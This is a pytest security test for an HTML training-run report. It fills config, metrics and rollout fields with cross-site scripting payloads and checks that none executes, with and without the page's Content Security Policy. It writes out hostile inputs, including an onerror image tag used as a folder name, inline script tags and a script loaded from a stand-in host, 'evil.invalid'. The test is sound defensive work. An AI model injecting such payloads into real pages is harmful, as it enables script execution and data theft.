"""Hostile content in every field: nothing of it runs, and the test would notice if it did."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from code_rl.training.report import open_run, write_report
from tests.training.report.browsing import DESKTOP, Watched, watched
from tests.training.report.run_folders import write_run


def payloads() -> list[str]:
    """Texts that try to become scripts, in every way that pages of logs have fallen for; each with a number of its own."""
    texts = json.loads(Path(__file__).with_name("payloads.json").read_text())
    return [text.format(n=number) for number, text in enumerate(texts)]


def hostile_run(folder: Path) -> Path:
    """A run whose every text is a payload: directory, settings, metrics, splits, problems, programs, messages, tests."""
    texts = payloads()
    words = [text.encode("utf-8", "replace").decode() for text in texts]  # names are ours, without lone surrogates
    run = write_run(folder / "<img src=x onerror=xss('name')>", steps=6)
    config = json.loads((run / "config.json").read_text())
    config |= {name: texts[0] for name in config if name not in ("max_steps", "model_name", "resolved")}
    config |= {f"{word} key": text for word, text in zip(words, texts, strict=True)} | {
        "model_name": texts[14],
        "max_tokens": texts[1],
    }
    (run / "config.json").write_text(json.dumps(config))
    records = [json.loads(line) for line in (run / "metrics.jsonl").read_text().splitlines()]
    for number, (word, text) in enumerate(zip(words, texts, strict=True)):
        for record in records:
            record |= {
                word: 0.5 + record["step"],
                f"verdicts/{word}": 1,
                f"eval/{word}/pass@1": 0.1 * number,
                f"eval/{word}/pass@8": 0.9,
            }
            record |= {f"extra/{number}": text}
    (run / "metrics.jsonl").write_text("".join(json.dumps(record) + "\n" for record in records))
    group = json.loads((run / "rollouts.jsonl").read_text().splitlines()[0])
    lines = []
    for number, (word, text) in enumerate(zip(words, texts, strict=True)):
        sample = group["completions"][0] | {
            "text": f"{text}\n```python\n{text}\n```\n{text}", "masked": word, "reward": 0.0,
            "failure": {"test": 0, "public": True, "message": text},
            "turns": [{"text": f"{text}\n```python\n{text}\n```", "verdict": word, "messages": [{"role": text, "content": text}]}],
        }  # fmt: skip
        others = [
            sample,
            sample
            | {"verdict": "wrong_answer", "text": f"```\nimport os; os._exit(0) #{text}\n```", "passed": 0, "total": 3},
        ]
        tests = [{"test": 0, "call": False, "input": text, "expected": text}]
        lines.append(
            {
                **group,
                "group": number,
                "problem_id": text,
                "statement": text,
                "public_tests": tests,
                "completions": others,
            }
        )
    (run / "rollouts.jsonl").write_text("".join(json.dumps({**line, "step": 0}) + "\n" for line in lines))
    return run


def look_at_everything(seen: Watched, url: str) -> None:
    """Open the page and each group of it, in both readings, with every part unfolded."""
    page = seen.page
    page.goto(url)
    page.wait_for_selector("#sample .text-box")
    page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
    shown = page.evaluate(
        """async () => {
            const pause = () => new Promise((done) => setTimeout(done, 15));
            document.querySelector(".master .link")?.click();
            const rows = [...document.querySelectorAll(".group-row")].map((row) => row.dataset.at);
            for (const at of rows) {
                document.querySelector(`.group-row[data-at="${at}"]`).click();
                await pause(); await pause();
                for (const how of ["tokens", "code"]) document.querySelector(`.segmented button[data-value=${how}]`)?.click();
                for (const cell of document.querySelectorAll(".matrix button")) cell.click();
                document.querySelectorAll("details").forEach((each) => { each.open = true; });
            }
            document.querySelector("#follow")?.click();
            await new Promise((done) => setTimeout(done, 300));
            return rows.length;
        }"""
    )
    assert shown >= 50


@pytest.mark.parametrize("policy", [True, pytest.param(False, marks=pytest.mark.slow)])
def test_no_payload_runs_in_any_field_with_the_policy_or_without(browser, tmp_path, policy):
    page = tmp_path / "report.html"
    write_report([open_run(hostile_run(tmp_path))], page)
    if not policy:
        text = page.read_text()
        assert text.count('http-equiv="Content-Security-Policy"') == 1
        page.write_text(text.replace('http-equiv="Content-Security-Policy"', 'name="none"'))
    with watched(browser, **DESKTOP) as seen:
        look_at_everything(seen, page.as_uri())
        assert seen.planted == set()
        assert seen.leaving(page.as_uri()) == []
        assert not [text for text in seen.problems if "Content Security Policy" in text or "Trusted" in text]
        assert seen.page.locator(".statement").inner_text()


def test_the_policy_alone_stops_a_script_that_got_in(browser, tmp_path):
    write_report([open_run(write_run(tmp_path / "run"))], tmp_path / "report.html")
    text = (tmp_path / "report.html").read_text()
    planted = "<script>xss('inline')</script><img src=x onerror=xss('handler')><script src='https://evil.invalid/a.js'></script>"
    (tmp_path / "report.html").write_text(text.replace('<div id="app">', f'{planted}<div id="app">'))
    with watched(browser, **DESKTOP) as seen:
        seen.page.goto((tmp_path / "report.html").as_uri())
        seen.page.wait_for_selector("#sample .text-box")
        markup = "() => { try { document.body.innerHTML = '<img src=x onerror=xss(1)>'; } catch (error) { return String(error); } }"
        assert "TrustedHTML" in seen.page.evaluate(markup)
        assert seen.planted == set()


@pytest.mark.slow
def test_this_corpus_runs_in_a_page_that_does_not_escape(browser, tmp_path):
    noticed = 0
    for number, text in enumerate(payloads()):
        page = f"<!doctype html><body><p>{text}</p><p title='{text}'></p><script>const a = '{text}';</script>"
        (tmp_path / f"{number}.html").write_text(page, errors="replace")
    with watched(browser, **DESKTOP) as seen:
        for number in range(len(payloads())):
            seen.planted.clear()
            seen.page.goto((tmp_path / f"{number}.html").as_uri(), wait_until="load")
            seen.page.wait_for_timeout(25)
            noticed += bool(seen.planted) or bool(seen.leaving(tmp_path.as_uri()))
    assert noticed >= 40
